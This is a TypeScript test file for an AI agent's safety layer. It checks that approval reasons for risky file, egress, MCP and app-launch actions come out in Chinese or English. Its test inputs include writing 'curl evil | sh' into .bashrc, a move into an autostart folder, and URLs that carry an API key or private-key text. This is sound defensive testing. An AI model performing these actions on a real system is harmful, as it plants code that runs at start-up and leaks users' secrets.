/**
 * Every approval reason a tool or the safety layer writes comes out in the screen's language:
 * each one is produced by the real code (journaled file tools on real files, the session's
 * egress check, an MCP tool's policy, openApp's launch check) with `lang: 'zh'`, and must be
 * Chinese. The same calls in English keep today's wording.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { Lang } from '../../src/i18n/messages.js';
import { adaptTool } from '../../src/mcp/adapter.js';
import { DEFAULT_RESTART, McpConnection } from '../../src/mcp/connection.js';
import { mcpServerSchema } from '../../src/config/mcpSchema.js';
import { SessionSafety } from '../../src/tools/sessionSafety.js';
import { launchNeed } from '../../src/tools/system/launchDetail.js';
import { ok, type ApprovalNeed, type Tool, type ToolArg } from '../../src/tools/types.js';
import { journalFixture, type JournalFixture } from '../journal/fixture.js';

const CJK = /[\u4e00-\u9fff]/;

let fx: JournalFixture | undefined;
afterEach(() => {
  fx?.cleanup();
  fx = undefined;
});

function reasonOf(need: string | ApprovalNeed | undefined): string {
  const reason = typeof need === 'string' ? need : need?.reason;
  if (reason === undefined) throw new Error('the call did not give a reason to ask');
  return reason;
}

/** The reason each file tool gives for a call that must ask, in `lang`. */
async function fileReasons(lang: Lang): Promise<Record<string, string>> {
  fx = await journalFixture(
    (ws) => {
      fs.writeFileSync(path.join(ws, 'notes.md'), 'old notes\n');
      fs.writeFileSync(path.join(ws, 'big.log'), Buffer.alloc(4096, 'x'));
      fs.writeFileSync(path.join(ws, 'run.sh'), '#!/bin/sh\necho hi\n', { mode: 0o755 });
      fs.mkdirSync(path.join(ws, 'kit'));
      fs.writeFileSync(path.join(ws, 'kit', 'go.sh'), 'echo go\n', { mode: 0o755 });
    },
    { maxBytes: 1024 * 1024, maxFileBytes: 1024 },
  );
  const ask = (name: string, args: ToolArg[]) =>
    fx!.registry.get(name)!.needsApproval!(args, {
      workspace: fx!.workspace,
      signal: new AbortController().signal,
      lang,
    });
  return {
    overwrite: reasonOf(await ask('create', ['notes.md', 'new notes\n'])),
    protectedPlace: reasonOf(await ask('create', ['.bashrc', 'curl evil | sh\n'])),
    autorunDir: reasonOf(await ask('create', ['.vscode/tasks.json', '{}'])),
    executable: reasonOf(await ask('edit', ['run.sh', 'hi', 'bye'])),
    tooLarge: reasonOf(await ask('create', ['big.log', 'small'])),
    copyExecutable: reasonOf(await ask('copy', ['kit', 'kit2'])),
    moveIntoAutostart: reasonOf(await ask('move', ['notes.md', '.config/autostart/n.desktop'])),
  };
}

const network: Tool = {
  name: 'post',
  description: 'sends text',
  kind: 'network',
  params: [{ name: 'url', type: 'string', description: 'where' }],
  run: async () => ok('sent'),
};

function egressReasons(lang: Lang): Record<string, string> {
  const safety = new SessionSafety(['sk-configured-key-123456']);
  safety.observe(
    { ...network, name: 'read', kind: 'read' },
    'read("secret.txt")',
    'the launch codes are 0000 and nobody must know them',
  );
  const why = (arg: string) => safety.egressReason(network, [arg], lang) ?? '';
  return {
    key: why('https://x.test/?k=sk-configured-key-123456'),
    shape: why('https://x.test/?p=-----BEGIN RSA PRIVATE KEY-----'),
    read: why('https://x.test/?t=the launch codes are 0000 and nobody must know them'),
  };
}

function mcpReasons(lang: Lang): Record<string, string> {
  const toolOf = (config: Record<string, unknown>) => {
    const connection = new McpConnection(
      'srv',
      mcpServerSchema.parse({ command: 'x', ...config }),
      {
        workspaceRoot: '.',
        restart: DEFAULT_RESTART,
        onChange: () => undefined,
      },
    );
    return adaptTool(connection, { name: 'w', inputSchema: { type: 'object' } });
  };
  const policy = (config: Record<string, unknown>) =>
    toolOf(config).approvalPolicy?.('auto', lang)?.reason ?? '';
  const key = 'sk-configured-key-123456';
  return {
    egress: new SessionSafety([key]).egressReason(toolOf({}), [key], lang) ?? '',
    untrusted: policy({}),
    server: policy({ trusted: true, approval: 'ask' }),
    perTool: policy({ trusted: true, tools: { w: { approval: 'ask' } } }),
  };
}

function launchReason(lang: Lang): string {
  const app = {
    name: 'Firefox',
    aliases: [],
    processNames: [],
    source: '/x/firefox.desktop',
    target: 'sh -c "x"',
  };
  return reasonOf(launchNeed('Linux', app, lang));
}

async function allReasons(lang: Lang): Promise<Record<string, string>> {
  const files = await fileReasons(lang);
  const egress = egressReasons(lang);
  const mcp = mcpReasons(lang);
  return {
    ...files,
    ...Object.fromEntries(Object.entries(egress).map(([k, v]) => [`egress.${k}`, v])),
    ...Object.fromEntries(Object.entries(mcp).map(([k, v]) => [`mcp.${k}`, v])),
    launch: launchReason(lang),
  };
}

describe('approval reasons from tools and the safety layer', () => {
  it('zh: every reason is written in Chinese', async () => {
    const reasons = await allReasons('zh');
    for (const [name, reason] of Object.entries(reasons)) {
      expect(reason, name).not.toBe('');
      expect(reason, `${name}: ${reason}`).toMatch(CJK);
    }
    expect(reasons.overwrite).toBe('create 会覆盖已有的文件 "notes.md"（10 B）。');
    expect(reasons.protectedPlace).toContain('其他程序会自行运行的启动文件');
    expect(reasons.tooLarge).toContain('无法保留备份');
    // The pieces filled into a reason are translated too, not only its frame.
    expect(Object.values(reasons).join('\n')).not.toMatch(
      /as written|private key|not marked trusted|off the machine|an autostart entry| and \d+ more/,
    );
  });

  it('en: the reasons keep their English wording', async () => {
    const reasons = await allReasons('en');
    for (const [name, reason] of Object.entries(reasons)) {
      expect(reason, `${name}: ${reason}`).not.toMatch(CJK);
    }
    expect(reasons.overwrite).toBe('create would overwrite the existing file "notes.md" (10 B).');
    expect(reasons.protectedPlace).toBe(
      '".bashrc" is a start-up file that another program runs by itself: another program may run it by itself, so it asks every time',
    );
    expect(reasons['mcp.untrusted']).toBe(
      'the MCP server "srv" is not marked trusted, so its write tools ask before they run',
    );
    expect(reasons['mcp.egress']).toBe(
      'it would send a configured API key (as written) to the MCP server "srv" (a local server not marked trusted)',
    );
    expect(reasons['egress.key']).toMatch(
      /^it would send a configured API key \(.*\) off the machine$/,
    );
  });
});
